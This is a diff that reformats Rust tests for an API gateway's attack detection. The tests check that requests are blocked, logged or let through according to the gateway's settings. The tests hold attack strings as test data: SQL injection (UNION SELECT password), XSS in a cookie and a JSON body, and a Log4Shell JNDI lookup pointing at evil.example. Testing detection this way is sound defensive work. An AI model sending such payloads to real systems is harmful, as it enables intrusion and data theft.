@@ -25,7 +25,9 @@ fn attacks() -> Vec<Attack> {
             // the gateway's normalization check (400 path-not-normalized).
             what: "SQL injection in a path segment",
             class: "sqli",
-            request: |c, gw| c.get(gw.url("/users/1%27%20UNION%20SELECT%20password%20FROM%20users--")),
+            request: |c, gw| {
+                c.get(gw.url("/users/1%27%20UNION%20SELECT%20password%20FROM%20users--"))
+            },
         },
         Attack {
             what: "path traversal in a query value",
@@ -35,17 +37,26 @@ fn attacks() -> Vec<Attack> {
         Attack {
             what: "Log4Shell in a header",
             class: "java",
-            request: |c, gw| c.get(gw.url("/items")).header("user-agent", "${jndi:ldap://evil.example/a}"),
+            request: |c, gw| {
+                c.get(gw.url("/items"))
+                    .header("user-agent", "${jndi:ldap://evil.example/a}")
+            },
         },
         Attack {
             what: "XSS in a cookie",
             class: "xss",
-            request: |c, gw| c.get(gw.url("/items")).header("cookie", "theme=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+            request: |c, gw| {
+                c.get(gw.url("/items"))
+                    .header("cookie", "theme=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
+            },
         },
         Attack {
             what: "XSS in a JSON body",
             class: "xss",
-            request: |c, gw| c.post(gw.url("/items")).json(&json!({"name": "x", "bio": "<img src=x onerror=alert(1)>"})),
+            request: |c, gw| {
+                c.post(gw.url("/items"))
+                    .json(&json!({"name": "x", "bio": "<img src=x onerror=alert(1)>"}))
+            },
         },
         Attack {
             what: "command injection in a form body",
@@ -101,7 +112,10 @@ async fn attacks_in_every_part_are_refused_before_the_upstream() {
         let body = assert_problem(resp, 403, "attack-detected").await;
         assert_eq!(body["title"], "Request blocked", "{}", a.what);
         let text = body.to_string();
-        assert!(!text.contains("passwd") && !text.contains("script") && !text.contains(a.class), "the problem reveals nothing: {text}");
+        assert!(
+            !text.contains("passwd") && !text.contains("script") && !text.contains(a.class),
+            "the problem reveals nothing: {text}"
+        );
     }
     assert_eq!(up.hits(), 0, "no attack reached the upstream");
     let events = gw.log("events.log", list.len()).await;
@@ -130,7 +144,12 @@ async fn monitor_mode_lets_attacks_through_and_records_them() {
     }
     assert_eq!(up.hits(), list.len());
     let events = gw.log("events.log", list.len()).await;
-    assert!(events.iter().all(|e| e["action"] == "monitored" && e["policy"] == "detect"), "{events:?}");
+    assert!(
+        events
+            .iter()
+            .all(|e| e["action"] == "monitored" && e["policy"] == "detect"),
+        "{events:?}"
+    );
 }
 
 #[tokio::test]
@@ -159,15 +178,38 @@ async fn benign_look_alikes_pass() {
 #[tokio::test]
 async fn exclusions_turn_rules_off_where_they_say() {
     let up = Upstream::start("up").await;
-    let gw = gateway(&up, r#"{ exclusions: [ { rules: [xss], in: ["body:/content"] } ] }"#).await;
+    let gw = gateway(
+        &up,
+        r#"{ exclusions: [ { rules: [xss], in: ["body:/content"] } ] }"#,
+    )
+    .await;
     let c = client();
     let html = "<script>alert(1)</script>";
-    let resp = c.post(gw.url("/snippets")).json(&json!({"content": html})).send().await.unwrap();
+    let resp = c
+        .post(gw.url("/snippets"))
+        .json(&json!({"content": html}))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(resp.status(), 200, "excluded field");
-    let resp = c.post(gw.url("/snippets")).json(&json!({"title": html})).send().await.unwrap();
+    let resp = c
+        .post(gw.url("/snippets"))
+        .json(&json!({"title": html}))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(resp.status(), 403, "other fields are still inspected");
-    let resp = c.post(gw.url("/snippets")).json(&json!({"content": "1' UNION SELECT password FROM users--"})).send().await.unwrap();
-    assert_eq!(resp.status(), 403, "other classes are still inspected in the excluded field");
+    let resp = c
+        .post(gw.url("/snippets"))
+        .json(&json!({"content": "1' UNION SELECT password FROM users--"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(
+        resp.status(),
+        403,
+        "other classes are still inspected in the excluded field"
+    );
 }
 
 const TYPED_SPEC: &str = r#"
@@ -188,13 +230,24 @@ async fn values_the_contract_types_skip_free_text_detection() {
     let up = Upstream::start("up").await;
     let dir = tempfile::tempdir().unwrap();
     std::fs::write(dir.path().join("typed.yaml"), TYPED_SPEC).unwrap();
-    let yaml = one_api(&up.url(), "{ contract: {}, detect: {} }").replace("    upstream: up\n", "    upstream: up\n    contract: typed.yaml\n");
+    let yaml = one_api(&up.url(), "{ contract: {}, detect: {} }").replace(
+        "    upstream: up\n",
+        "    upstream: up\n    contract: typed.yaml\n",
+    );
     let gw = start_gateway_in(dir, &yaml).await;
     let c = client();
     let value = "1%27%20or%20%271%27%3D%271";
-    let resp = c.get(gw.url(&format!("/reports?mode={value}"))).send().await.unwrap();
+    let resp = c
+        .get(gw.url(&format!("/reports?mode={value}")))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(resp.status(), 200, "an enum value is typed");
-    let resp = c.get(gw.url(&format!("/reports?note={value}"))).send().await.unwrap();
+    let resp = c
+        .get(gw.url(&format!("/reports?note={value}")))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(resp.status(), 403, "a free-text value is inspected");
 }
 
@@ -206,6 +259,9 @@ async fn an_attack_in_the_head_is_refused_before_the_body_is_read() {
     let head = "POST /items?q=1%27%20or%201%3D1-- HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\nConnection: close\r\n\r\n";
     let (reply, _) = raw(gw.addr, head.as_bytes()).await;
     assert_eq!(status_of(&reply), 403, "{reply}");
-    assert!(reply.contains("urn:parapet:problem:attack-detected"), "{reply}");
+    assert!(
+        reply.contains("urn:parapet:problem:attack-detected"),
+        "{reply}"
+    );
     assert_eq!(up.hits(), 0);
 }
